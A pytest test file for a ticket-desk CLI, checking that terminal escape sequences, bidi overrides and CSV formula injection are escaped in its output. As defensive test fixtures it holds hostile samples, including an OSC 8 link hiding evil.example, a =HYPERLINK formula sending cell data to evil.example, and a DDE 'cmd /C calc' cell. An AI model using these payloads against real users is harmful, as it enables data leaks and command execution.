"""Output that cannot attack its reader: a terminal, a script reading JSON, a spreadsheet opening CSV.

Ticket files come from colleagues, pull requests and mail, so a title, a name
or a comment may hold escape sequences (clear the screen, retitle the window,
hide a link, overwrite a line, reorder text with a bidi override) or a CSV
cell a spreadsheet would run as a formula. Every test here puts such text in
a desk, through `sdesk new` or by hand in a ticket file, and reads what sdesk
prints.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from sdesk.cli import context
from sdesk.output import to_csv
from tests.conftest import TICKET_DEFAULTS, ok

CLEAR = "\x1b[2J"
WINDOW_TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"  # OSC 8: text that hides where it leads
C1_CSI = "\x9b31m"  # the 8-bit form of ESC [
BIDI = "\u202eevil\u202c"  # right-to-left override … pop
HOSTILE_TITLE = f"{CLEAR}Printer{WINDOW_TITLE} kapot {LINK} {C1_CSI}rood {BIDI}\x08\x08XX"
SHOWN_TITLE = (
    "\\u001b[2JPrinter\\u001b]0;pwned\\u0007 kapot "
    "\\u001b]8;;https://evil.example/\\u001b\\click here\\u001b]8;;\\u001b\\ "
    "\\u009b31mrood \\u202eevil\\u202c\\b\\bXX"
)
# What must never reach a terminal raw: C0 controls but newline and tab, DEL, C1, bidi controls, line separators.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def raw_controls(text: str) -> list[str]:
    return RAW.findall(text)


def hand_written(desk: Path, ticket_id: str, key: str, yaml_value: str) -> None:
    """Replace one top-level line of a ticket file, as someone editing it by hand would."""
    path = desk / "tickets" / f"{ticket_id}.yaml"
    line = f"{key}: {yaml_value}"
    text, count = re.subn(rf"^{key}: .*$", lambda _: line, path.read_text(encoding="utf-8"), flags=re.M)
    assert count == 1
    path.write_text(text, encoding="utf-8")


# --- the terminal ------------------------------------------------------------------------------


def test_list_shows_control_characters_escaped_and_still_fits_80_columns(desk, run, new_ticket):
    new_ticket(title=HOSTILE_TITLE)
    table = ok(run("list"))
    assert raw_controls(table) == []
    assert all(len(line) <= 80 for line in table.splitlines())
    row = table.splitlines()[2]
    assert row.rsplit("  ", 1)[1].startswith("\\u001b[2JPrinter")  # the title, last, escaped before it is cut
    assert row.endswith("…")
    wide = ok(run("list", env={"COLUMNS": "300"}))
    assert wide.splitlines()[2].endswith(SHOWN_TITLE)


def test_show_escapes_every_text_and_keeps_its_lines_and_indentation(desk, run, new_ticket):
    ticket = new_ticket(
        title=HOSTILE_TITLE,
        description=f"Eerste regel{CLEAR}\n\tTweede regel{WINDOW_TITLE}\rOVERSCHREVEN",
        contact_name=f"Els {BIDI}",
    )
    ok(run("comment", ticket["id"], f"Zie {LINK}\nen bel terug\u2028morgen"))
    sheet = ok(run("show", ticket["id"]))
    assert raw_controls(sheet) == []
    lines = sheet.splitlines()
    assert lines[0] == f"{ticket['id']}  {SHOWN_TITLE}"
    assert "  Eerste regel\\u001b[2J" in lines
    assert "  \tTweede regel\\u001b]0;pwned\\u0007\\rOVERSCHREVEN" in lines
    assert any(line.startswith("Contact") and "Els \\u202eevil\\u202c" in line for line in lines)
    assert "      Zie \\u001b]8;;https://evil.example/\\u001b\\click here\\u001b]8;;\\u001b\\" in lines
    assert "      en bel terug\\u2028morgen" in lines


def test_a_hand_written_ticket_file_is_shown_escaped(desk, run, new_ticket):
    """YAML needs escapes for most controls, but a bidi override may stand in a file as it is."""
    ticket_id = new_ticket()["id"]
    hand_written(desk, ticket_id, "title", '"\\rOVER\\tschreven \\e[2J\\a\\x9b31m\\x7f \u202eraw\u2066"')
    hand_written(desk, ticket_id, "customer", "zonnebloem\u202e")
    for args in (("list", "--all"), ("show", ticket_id), ("list", "--all", "--format", "csv")):
        result = run(*args, env={"COLUMNS": "300"})
        assert result.exit_code == 0, result.output
        assert raw_controls(result.output) == [], args
    rest = "schreven \\u001b[2J\\u0007\\u009b31m\\u007f \\u202eraw\\u2066"
    assert ok(run("show", ticket_id)).startswith(f"{ticket_id}  \\rOVER\t{rest}\n")
    # Escaped, not dropped: Click strips escape sequences it prints to a pipe, which would change the data.
    csv_title = next(row["title"] for row in csv.DictReader(io.StringIO(ok(run("list", "--all", "--format", "csv")))))
    assert csv_title == f"'\\rOVER\t{rest}"
    listed = ok(run("list", "--all", "--columns", "customer,title", env={"COLUMNS": "300"}))
    assert f"zonnebloem\\u202e  OVER {rest}\n" in listed


def test_json_escapes_what_json_dumps_leaves_raw_and_reads_back_the_same(desk, run, new_ticket):
    title = f"Del\x7f C1{C1_CSI} bidi{BIDI} isolate\u2066x\u2069 mark\u200f {CLEAR}"
    description = f"regel\u2028scheiding\u2029alinea{WINDOW_TITLE}"
    ticket_id = new_ticket(title=title, description=description)["id"]
    for args in (("list", "--format", "json"), ("show", ticket_id, "--format", "json")):
        text = ok(run(*args))
        assert raw_controls(text) == []
        for shown in ("\\u007f", "\\u009b31m", "\\u202e", "\\u2066", "\\u200f", "\\u001b[2J"):
            assert shown in text
        data = json.loads(text)
        assert (data[0] if isinstance(data, list) else data)["title"] == title
    assert json.loads(ok(run("show", ticket_id, "--format", "json")))["description"] == description


def test_errors_and_warnings_that_quote_a_file_show_its_control_characters(desk, run, new_ticket):
    ticket_id = new_ticket()["id"]
    hand_written(desk, ticket_id, "created", '"\\e]0;pwned\\a\\x9b2J\\u202e"')
    shown = run("show", ticket_id)
    assert shown.exit_code == 1
    assert shown.stderr.startswith("Error: ") and shown.stderr.count("\n") == 1, shown.stderr
    assert raw_controls(shown.stderr) == []
    assert "\\u001b]0;pwned\\u0007\\u009b2J\\u202e" in shown.stderr
    listed = run("list", "--all")
    assert listed.exit_code == 0
    assert listed.stderr.startswith("Warning: ")
    assert raw_controls(listed.stderr) == []
    assert "\\u001b]0;pwned\\u0007\\u009b2J\\u202e" in listed.stderr


def test_confirmations_show_a_hostile_title_escaped(desk, run, new_ticket):
    values = {**TICKET_DEFAULTS, "--title": HOSTILE_TITLE}
    created = run("new", *[part for pair in values.items() for part in pair])
    assert created.exit_code == 0, created.output
    assert raw_controls(created.output) == []
    assert created.stdout.startswith("Created ")
    assert "Printer\\u001b]0;pwned\\u0007 kapot" in created.stdout  # Click itself drops ESC [ … off a terminal
    ticket_id = created.stdout.split()[1]
    updated = ok(run("update", ticket_id, "--title", f"Nieuw{WINDOW_TITLE}"))
    assert raw_controls(updated) == []
    assert updated.endswith("→ Nieuw\\u001b]0;pwned\\u0007\n")
    for args in (("comment", ticket_id, f"Zie {LINK}"), ("close", ticket_id, "--resolution", f"Opgelost{BIDI}")):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert raw_controls(result.output) == [], args


def test_a_prompt_shows_a_name_from_rules_yaml_escaped_and_still_reads_the_answer(desk, run, monkeypatch):
    rules = desk / "rules.yaml"
    rules.write_text(
        rules.read_text(encoding="utf-8").replace(
            "{name: Campus Brugge, campus: Brugge}", '{name: "Campus \\e]0;pwned\\a Brugge", campus: Brugge}'
        ),
        encoding="utf-8",
    )
    monkeypatch.setattr(context, "interactive", lambda: True)
    values = {key: value for key, value in TICKET_DEFAULTS.items() if key != "--site"}
    result = run("new", "--format", "json", *[part for pair in values.items() for part in pair], input="2101\n")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["site"] == "2101"
    assert "Site (2101 Campus \\u001b]0;pwned\\u0007 Brugge, 2102 Campus Oostende): " in result.stderr
    assert raw_controls(result.output) == []


def on_a_terminal(args: list[str], env: dict[str, str]) -> str:
    """What a terminal shows of a real sdesk process: stdout and stderr on a pseudo-terminal."""
    pty = pytest.importorskip("pty")
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            args, stdin=subprocess.DEVNULL, stdout=follower, stderr=follower, env=env, check=False, timeout=60
        )
    finally:
        os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 1 << 16)
        except OSError:  # EIO: every byte read and the terminal closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    output = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")  # the terminal's own line ends
    assert done.returncode == 0, output
    return output


def sdesk_command() -> list[str]:
    installed = Path(sys.executable).parent / "sdesk"
    return [str(installed)] if installed.exists() else [sys.executable, "-m", "sdesk"]


def test_a_real_terminal_never_receives_a_raw_control_character(desk, run, new_ticket):
    """On a terminal Click passes ESC [ … through, so the sequences that clear and colour arrive intact."""
    ticket_id = new_ticket(title=HOSTILE_TITLE)["id"]
    sdesk = sdesk_command()
    env = {**os.environ, "COLUMNS": "300"}
    created = ["new", *[part for pair in {**TICKET_DEFAULTS, "--title": HOSTILE_TITLE}.items() for part in pair]]
    for args in (
        ["list"],
        ["show", ticket_id],
        ["update", ticket_id, "--title", f"{CLEAR}Nieuw{WINDOW_TITLE}"],
        created,
    ):
        output = on_a_terminal([*sdesk, *args], env)
        assert raw_controls(output) == [], args
        assert "\\u001b[2J" in output, args
    assert "Usage: sdesk" in on_a_terminal([*sdesk, "--help"], env)


def test_a_terminal_that_cannot_encode_every_character_gets_escapes_not_a_traceback(desk, new_ticket):
    ticket_id = new_ticket(title=f"Eén {CLEAR}oogopslag …")["id"]
    done = subprocess.run(
        [*sdesk_command(), "show", ticket_id],
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
        capture_output=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode("ascii").startswith(f"{ticket_id}  E\\xe9n \\u001b[2Joogopslag \\u2026\n")


# --- CSV in a spreadsheet ------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(desk, run, new_ticket):
    ids = {new_ticket(title=title)["id"]: title for title in FORMULAS}
    rows = list(csv.DictReader(io.StringIO(ok(run("list", "--format", "csv")))))
    assert {row["id"]: row["title"] for row in rows} == {ticket_id: f"'{title}" for ticket_id, title in ids.items()}
    for ticket_id in ids:
        ok(run("log", ticket_id, "1h30m", "--note", "=1+1"))
    report = list(csv.DictReader(io.StringIO(ok(run("report", "time", "--by-ticket", "--format", "csv")))))
    tickets = [row for row in report if row["level"] == "ticket"]
    assert sorted(row["title"] for row in tickets) == sorted(f"'{title}" for title in FORMULAS)
    assert {row["logged_minutes"] for row in report} == {"90", "360"}  # numbers stay numbers
    pairs = list(csv.reader(io.StringIO(ok(run("show", next(iter(ids)), "--format", "csv")))))
    assert ["history.2.minutes", "90"] in pairs
    assert ["history.2.text", "'=1+1"] in pairs


def test_a_hand_written_title_starting_with_a_tab_or_a_carriage_return_is_text(desk, run, new_ticket):
    tab, cr = new_ticket()["id"], new_ticket()["id"]
    hand_written(desk, tab, "title", '"\\t=1+1"')
    hand_written(desk, cr, "title", '"\\r=1+1"')
    rows = {row["id"]: row["title"] for row in csv.DictReader(io.StringIO(ok(run("list", "--format", "csv"))))}
    assert rows == {tab: "'\t=1+1", cr: "'\\r=1+1"}  # the carriage return is shown, never sent


def test_csv_keeps_numbers_and_quotes_only_text():
    row = {"count": -2, "hours": Decimal("-1.50"), "share": -0.25, "title": "-2+3", "on": date(2026, 11, 23)}
    assert to_csv([row], list(row)).splitlines() == ["count,hours,share,title,on", "-2,-1.50,-0.25,'-2+3,2026-11-23"]
